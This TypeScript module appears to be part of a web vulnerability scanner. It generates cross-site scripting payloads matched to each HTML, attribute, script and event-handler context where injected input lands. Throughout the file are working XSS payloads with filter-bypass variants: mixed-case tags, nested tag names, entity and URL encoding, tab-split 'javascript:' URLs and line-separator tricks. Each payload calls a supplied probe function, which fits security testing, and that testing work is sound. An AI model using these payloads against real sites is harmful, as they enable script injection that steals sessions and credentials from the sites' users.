import type { CodeContext, Context } from './contexts.ts';

/** Ways to make a browser call `call` that stand on their own in a page's text. */
const tags = (call: string): string[] => [
  `<img src=x onerror=${call}()>`,
  `<script>${call}()</script>`,
  `<svg/onload=${call}()>`,
  `<ScRiPt>${call}()</sCrIpT>`,
  `<details open ontoggle=${call}\`\`>`,
  // For filters that take whole tags out: the next bracket of the page ends this one.
  `<img src=x onerror=${call}()//`,
  // For filters that take a word out once, the beginning alone or the end too.
  `<scr<script>ipt>${call}()//</scr</script>ipt>`,
  // For filters that know handlers and the names of what runs scripts.
  `<iframe src=java&#115;cript:${call}()>`,
];

/** Up to nine payloads that fit one context, the likeliest first. Each calls `call` when it works. */
export function payloadsFor(context: Context, call: string): string[] {
  switch (context.kind) {
    case 'text':
      return context.inside === ''
        ? tags(call)
        : tags(call)
            .slice(0, 4)
            .map((tag) => `</${context.inside}>${tag}`);
    case 'comment':
      return tags(call)
        .slice(0, 3)
        .flatMap((tag) => [`-->${tag}`, `--!>${tag}`]);
    case 'tagName':
      return [
        `img src=x onerror=${call}() `,
        // Also where it is not known what is open.
        `x"'>${tags(call)[0]}`,
        `x>${tags(call)[1]}`,
      ];
    case 'attributeName':
      return [`onmouseover=${call}() x`, `x onfocus=${call}() autofocus `, `x>${tags(call)[0]}`];
    case 'attribute':
      return inAttribute(context, call);
    case 'script':
      return [
        ...inCode(context.code, call),
        `</script>${tags(call)[0]}`,
        `</script>${tags(call)[1]}`,
      ];
    case 'handler':
      return inHandler(context, call);
  }
}

const urlLike = /^(?:href|src|action|formaction|data)$/;

function inAttribute(context: Extract<Context, { kind: 'attribute' }>, call: string): string[] {
  const { quote, atStart, name, loads } = context;
  const hosted = loads ? [`${loads === 'host' ? '' : '//'}${call}.example/`] : [];
  const asUrl =
    atStart && urlLike.test(name)
      ? [
          `javascript:${call}()`,
          `JaVaScRiPt:${call}()//`,
          `java\tscript:${call}()`,
          `data:text/javascript,${call}()`,
        ]
      : [];
  const out =
    quote === ''
      ? [
          `x onmouseover=${call}() `,
          `x\tonmouseover=${call}()`,
          `x>${tags(call)[0]}`,
          `x>${tags(call)[1]}`,
        ]
      : [
          `${quote}>${tags(call)[0]}`,
          `${quote} onmouseover=${call}() x=${quote}`,
          `${quote} autofocus onfocus=${call}\`\` x=${quote}`,
          `${quote}/onmouseover=${quote}${call}()`,
          // For filters that take a handler out once.
          `${quote} onx= onmouseover=${call}() x=${quote}`,
          `${quote}>${tags(call)[1]}`,
        ];
  return [...hosted, ...asUrl, ...out];
}

function inCode(code: CodeContext, call: string): string[] {
  switch (code) {
    case 'single':
      return inQuotes("'", call);
    case 'double':
      return inQuotes('"', call);
    case 'regex':
      // Two strokes in a row would begin a comment.
      return [`x/-${call}()-/x`, `x/;${call}();/x`, `x/;${call}()//`];
    case 'template':
      return [`\${${call}()}`, `\`-${call}()-\``];
    case 'line':
      return [`\n${call}()//`, `\u2028${call}()//`];
    case 'block':
      return [`*/${call}()/*`];
    case 'bare':
      return [`${call}()`, `1;${call}()//`, `[${call}()]`, `1);${call}();//`, `x=${call}()`];
  }
}

const inQuotes = (quote: string, call: string): string[] => [
  `${quote}-${call}()-${quote}`,
  `${quote};${call}();//`,
  `${quote});${call}();//`,
  `\\${quote}-${call}()//`,
  `\\${quote});${call}()//`,
  `${quote}-${call}\`\`-${quote}`,
];

/** Inside an attribute the browser first decodes entities, so an escaped quote is as good as a quote. */
function inHandler(
  { code, quote, inAddress }: Extract<Context, { kind: 'handler' }>,
  call: string,
): string[] {
  const plain = inCode(code, call);
  const entity = plain
    .slice(0, 3)
    .map((payload) => payload.replaceAll("'", '&#39;').replaceAll('"', '&quot;'));
  const out = quote === '' ? [] : [`${quote} onmouseover=${call}() x=${quote}`];
  const endsAttribute = (payload: string) => quote !== '' && payload.includes(quote);
  return [
    ...plain.filter((payload) => !endsAttribute(payload)),
    // An address is decoded before its code runs (WHATWG HTML, §7.4.2.3.2).
    ...(inAddress
      ? plain.slice(0, 2).map((payload) => encodeURIComponent(payload).replaceAll("'", '%27'))
      : []),
    ...entity,
    ...out,
    // Where the page itself writes it as an entity.
    ...plain.filter(endsAttribute).slice(0, 2),
  ].slice(0, 9);
}
